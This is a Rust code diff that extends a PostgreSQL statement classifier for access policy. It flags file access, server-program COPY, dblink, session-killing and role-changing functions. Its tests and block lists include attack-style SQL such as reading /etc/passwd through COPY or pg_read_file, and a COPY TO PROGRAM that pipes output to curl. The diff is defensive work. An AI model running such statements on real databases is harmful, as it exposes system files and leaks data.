@@ -14,6 +14,12 @@ pub enum StatementClass {
     Dcl,
     Transaction,
     Utility,
+    /// Code run inside the database: `DO` blocks and procedure calls.
+    Procedural,
+    /// Reaches outside the database: the server's files and programs (`COPY` to or from a
+    /// file or a program, `pg_read_file`, server-side `lo_import`/`lo_export`) and other
+    /// servers (`dblink`). Denied unless access policy permits it.
+    External,
 }
 
 impl StatementClass {
@@ -25,6 +31,8 @@ impl StatementClass {
             StatementClass::Dcl => "dcl",
             StatementClass::Transaction => "transaction",
             StatementClass::Utility => "utility",
+            StatementClass::Procedural => "procedural",
+            StatementClass::External => "external",
         }
     }
 }
@@ -50,6 +58,11 @@ pub struct Statement {
     /// Data-changing commands found at any depth (`DELETE` inside a `WITH`, ...), so a rule
     /// about DELETE also catches the one hidden in a SELECT.
     pub inner_commands: Vec<String>,
+    /// Classes the statement takes on through the functions it calls (`utility` for
+    /// `pg_terminate_backend`, `dcl` for `set_config('role', ...)`, `external` for
+    /// `pg_read_file`, ...): it is decided under each of them as well as its own class.
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub effects: Vec<StatementClass>,
     /// What the statement does with the session's prepared statements, which share one
     /// namespace with the extended protocol's.
     #[serde(skip_serializing_if = "Option::is_none")]
@@ -83,8 +96,12 @@ impl Analysis {
         self.statements.len() > 1
     }
 
+    /// Every class the statements are decided under: each one's own class, then the
+    /// classes its function calls add.
     pub fn classes(&self) -> impl Iterator<Item = StatementClass> + '_ {
-        self.statements.iter().map(|s| s.class)
+        self.statements
+            .iter()
+            .flat_map(|s| std::iter::once(s.class).chain(s.effects.iter().copied()))
     }
 }
 
@@ -210,6 +227,7 @@ fn statement(node: &NodeEnum) -> Statement {
     let mut missing_where = false;
     let mut nested_write = false;
     let mut inner: Vec<String> = Vec::new();
+    let mut effects: Vec<StatementClass> = Vec::new();
     let note = |inner: &mut Vec<String>, c: &str| {
         if !inner.iter().any(|x| x == c) {
             inner.push(c.to_string());
@@ -249,6 +267,14 @@ fn statement(node: &NodeEnum) -> Statement {
                 nested_write = true;
                 note(&mut inner, "MERGE");
             }
+            NodeRef::FuncCall(f) => {
+                if let Some((name, effect)) = function_effect(f) {
+                    note(&mut inner, &name);
+                    if !effects.contains(&effect) {
+                        effects.push(effect);
+                    }
+                }
+            }
             _ => {}
         }
     }
@@ -278,6 +304,7 @@ fn statement(node: &NodeEnum) -> Statement {
     } else {
         class
     };
+    effects.retain(|e| *e != class);
     Statement {
         writes: nested_write || risky_code || class == StatementClass::Write,
         class,
@@ -285,8 +312,106 @@ fn statement(node: &NodeEnum) -> Statement {
         tables,
         missing_where,
         inner_commands: inner,
+        effects,
         prepared: prepared_use(node),
     }
+}
+
+/// Functions that do more than read: reach outside the database, act on other sessions
+/// or the server, or change data. Matched by their name's last part, case-insensitively
+/// (a function of the same name in another schema is treated alike: safer than not).
+const EXTERNAL_FUNCTIONS: [&str; 21] = [
+    "pg_read_file",
+    "pg_read_binary_file",
+    "pg_ls_dir",
+    "pg_stat_file",
+    "pg_ls_logdir",
+    "pg_ls_waldir",
+    "pg_ls_tmpdir",
+    "pg_ls_archive_statusdir",
+    "pg_ls_logicalsnapdir",
+    "pg_ls_replslotdir",
+    "lo_import",
+    "lo_export",
+    "dblink",
+    "dblink_exec",
+    "dblink_connect",
+    "dblink_connect_u",
+    "dblink_send_query",
+    "dblink_open",
+    "pg_file_write",
+    "pg_file_rename",
+    "pg_file_unlink",
+];
+
+const UTILITY_FUNCTIONS: [&str; 21] = [
+    "pg_terminate_backend",
+    "pg_cancel_backend",
+    "pg_reload_conf",
+    "pg_rotate_logfile",
+    "pg_promote",
+    "pg_switch_wal",
+    "pg_create_restore_point",
+    "pg_backup_start",
+    "pg_backup_stop",
+    "pg_start_backup",
+    "pg_stop_backup",
+    "pg_wal_replay_pause",
+    "pg_wal_replay_resume",
+    "pg_create_physical_replication_slot",
+    "pg_create_logical_replication_slot",
+    "pg_drop_replication_slot",
+    "pg_log_backend_memory_contexts",
+    "pg_stat_reset",
+    "pg_stat_reset_shared",
+    "pg_notify",
+    "pg_import_system_collations",
+];
+
+const WRITE_FUNCTIONS: [&str; 9] = [
+    "setval",
+    "lo_create",
+    "lo_creat",
+    "lo_unlink",
+    "lo_put",
+    "lowrite",
+    "lo_truncate",
+    "lo_truncate64",
+    "lo_from_bytea",
+];
+
+/// The class a function call adds to its statement, with the function's name.
+fn function_effect(f: &pg_query::protobuf::FuncCall) -> Option<(String, StatementClass)> {
+    let name = match f.funcname.last().and_then(|n| n.node.as_ref()) {
+        Some(NodeEnum::String(s)) => s.sval.to_ascii_lowercase(),
+        _ => return None,
+    };
+    let effect = if EXTERNAL_FUNCTIONS.contains(&name.as_str()) {
+        StatementClass::External
+    } else if UTILITY_FUNCTIONS.contains(&name.as_str()) {
+        StatementClass::Utility
+    } else if WRITE_FUNCTIONS.contains(&name.as_str()) {
+        StatementClass::Write
+    } else if name == "set_config" {
+        // Like SET: a setting of the session, unless it is who the session is (or the
+        // setting is not written out, so it could be).
+        let setting = f.args.first().and_then(|a| match a.node.as_ref() {
+            Some(NodeEnum::AConst(c)) => match &c.val {
+                Some(pg_query::protobuf::a_const::Val::Sval(s)) => {
+                    Some(s.sval.to_ascii_lowercase())
+                }
+                _ => None,
+            },
+            _ => None,
+        });
+        match setting.as_deref() {
+            Some("role") | Some("session_authorization") | None => StatementClass::Dcl,
+            Some(_) => StatementClass::Utility,
+        }
+    } else {
+        return None;
+    };
+    Some((name, effect))
 }
 
 fn prepared_use(node: &NodeEnum) -> Option<PreparedUse> {
@@ -340,6 +465,10 @@ fn classify(node: &NodeEnum) -> (StatementClass, String) {
         NodeEnum::DeleteStmt(_) => (Write, "DELETE"),
         NodeEnum::MergeStmt(_) => (Write, "MERGE"),
         NodeEnum::TruncateStmt(_) => (Write, "TRUNCATE"),
+        // To or from a file or a program on the server's host, not the client.
+        NodeEnum::CopyStmt(c) if !c.filename.is_empty() || c.is_program => {
+            (External, if c.is_from { "COPY FROM" } else { "COPY TO" })
+        }
         NodeEnum::CopyStmt(c) if c.is_from => (Write, "COPY FROM"),
         NodeEnum::CopyStmt(_) => (Read, "COPY TO"),
         NodeEnum::CreateTableAsStmt(_) => (Ddl, "CREATE TABLE AS"),
@@ -397,7 +526,7 @@ fn classify(node: &NodeEnum) -> (StatementClass, String) {
         NodeEnum::CreateFunctionStmt(_) => (Ddl, "CREATE FUNCTION"),
         NodeEnum::RenameStmt(_) => (Ddl, "RENAME"),
         NodeEnum::CommentStmt(_) => (Ddl, "COMMENT"),
-        NodeEnum::VariableSetStmt(_) => (Utility, "SET"),
+        NodeEnum::VariableSetStmt(v) => variable_set(v),
         NodeEnum::ListenStmt(_) => (Utility, "LISTEN"),
         NodeEnum::UnlistenStmt(_) => (Utility, "UNLISTEN"),
         NodeEnum::NotifyStmt(_) => (Utility, "NOTIFY"),
@@ -407,8 +536,8 @@ fn classify(node: &NodeEnum) -> (StatementClass, String) {
         NodeEnum::VacuumStmt(_) => (Utility, "VACUUM"),
         NodeEnum::CheckPointStmt(_) => (Utility, "CHECKPOINT"),
         NodeEnum::LockStmt(_) => (Utility, "LOCK"),
-        NodeEnum::DoStmt(_) => (Utility, "DO"),
-        NodeEnum::CallStmt(_) => (Utility, "CALL"),
+        NodeEnum::DoStmt(_) => (Procedural, "DO"),
+        NodeEnum::CallStmt(_) => (Procedural, "CALL"),
         NodeEnum::DeclareCursorStmt(_) => (Read, "DECLARE CURSOR"),
         NodeEnum::FetchStmt(_) => (Read, "FETCH"),
         NodeEnum::ClosePortalStmt(_) => (Utility, "CLOSE"),
@@ -416,6 +545,24 @@ fn classify(node: &NodeEnum) -> (StatementClass, String) {
         _ => (Ddl, "OTHER DDL"),
     };
     (class, command.to_string())
+}
+
+/// `SET`, and the forms that change who the session is: `SET ROLE`, `SET SESSION
+/// AUTHORIZATION` and their `RESET`s are privilege changes with commands of their own.
+fn variable_set(v: &pg_query::protobuf::VariableSetStmt) -> (StatementClass, &'static str) {
+    use pg_query::protobuf::VariableSetKind;
+    let reset = matches!(
+        VariableSetKind::try_from(v.kind),
+        Ok(VariableSetKind::VarReset | VariableSetKind::VarResetAll)
+    );
+    match (v.name.to_ascii_lowercase().as_str(), reset) {
+        ("role", false) => (StatementClass::Dcl, "SET ROLE"),
+        ("role", true) => (StatementClass::Dcl, "RESET ROLE"),
+        ("session_authorization", false) => (StatementClass::Dcl, "SET SESSION AUTHORIZATION"),
+        ("session_authorization", true) => (StatementClass::Dcl, "RESET SESSION AUTHORIZATION"),
+        (_, true) => (StatementClass::Utility, "RESET"),
+        _ => (StatementClass::Utility, "SET"),
+    }
 }
 
 fn drop_command(remove_type: i32) -> &'static str {
@@ -502,8 +649,29 @@ mod tests {
             ("LISTEN ch", Utility, "LISTEN"),
             ("NOTIFY ch, 'x'", Utility, "NOTIFY"),
             ("VACUUM t", Utility, "VACUUM"),
-            ("DO $$ BEGIN DELETE FROM t; END $$", Utility, "DO"),
-            ("CALL p()", Utility, "CALL"),
+            ("DO $$ BEGIN DELETE FROM t; END $$", Procedural, "DO"),
+            ("CALL p()", Procedural, "CALL"),
+            ("SET ROLE admin", Dcl, "SET ROLE"),
+            ("RESET ROLE", Dcl, "RESET ROLE"),
+            (
+                "SET SESSION AUTHORIZATION bob",
+                Dcl,
+                "SET SESSION AUTHORIZATION",
+            ),
+            (
+                "RESET SESSION AUTHORIZATION",
+                Dcl,
+                "RESET SESSION AUTHORIZATION",
+            ),
+            ("RESET search_path", Utility, "RESET"),
+            ("RESET ALL", Utility, "RESET"),
+            ("COPY t FROM '/etc/passwd'", External, "COPY FROM"),
+            ("COPY t TO '/tmp/out.csv'", External, "COPY TO"),
+            (
+                "COPY (SELECT 1) TO PROGRAM 'curl -d @- x'",
+                External,
+                "COPY TO",
+            ),
             ("PREPARE q AS DELETE FROM t", Write, "PREPARE"),
             ("EXECUTE q", Utility, "EXECUTE"),
             ("DEALLOCATE q", Utility, "DEALLOCATE"),
@@ -530,6 +698,50 @@ mod tests {
         assert!(
             !one("SELECT nextval('s')").writes,
             "functions are not analysed"
+        );
+    }
+
+    #[test]
+    fn functions_with_effects_add_their_class() {
+        let cases: &[(&str, StatementClass, &[StatementClass])] = &[
+            ("SELECT pg_read_file('/etc/passwd')", Read, &[External]),
+            ("SELECT lo_import('/etc/passwd')", Read, &[External]),
+            (
+                "SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(a int)",
+                Read,
+                &[External],
+            ),
+            ("SELECT pg_terminate_backend(42)", Read, &[Utility]),
+            (
+                "SELECT pg_catalog.set_config('search_path', '', false)",
+                Read,
+                &[Utility],
+            ),
+            ("SELECT set_config('role', 'admin', false)", Read, &[Dcl]),
+            ("SELECT set_config('ROLE', 'admin', false)", Read, &[Dcl]),
+            (
+                "SELECT set_config(current_setting('x'), 'admin', false)",
+                Read,
+                &[Dcl],
+            ),
+            ("SELECT setval('s', 1)", Read, &[Write]),
+            ("UPDATE t SET a = setval('s', 1) WHERE id = 1", Write, &[]),
+            ("SELECT lower(name) FROM t", Read, &[]),
+        ];
+        for (sql, class, effects) in cases {
+            let s = one(sql);
+            assert_eq!((s.class, s.effects.as_slice()), (*class, *effects), "{sql}");
+        }
+        let s = one("SELECT pg_terminate_backend(pid) FROM pg_stat_activity");
+        assert!(
+            s.inner_commands
+                .contains(&"pg_terminate_backend".to_string())
+        );
+        assert_eq!(
+            analyze("SELECT pg_read_file('x'); SELECT 1")
+                .classes()
+                .collect::<Vec<_>>(),
+            [Read, External, Read]
         );
     }
 
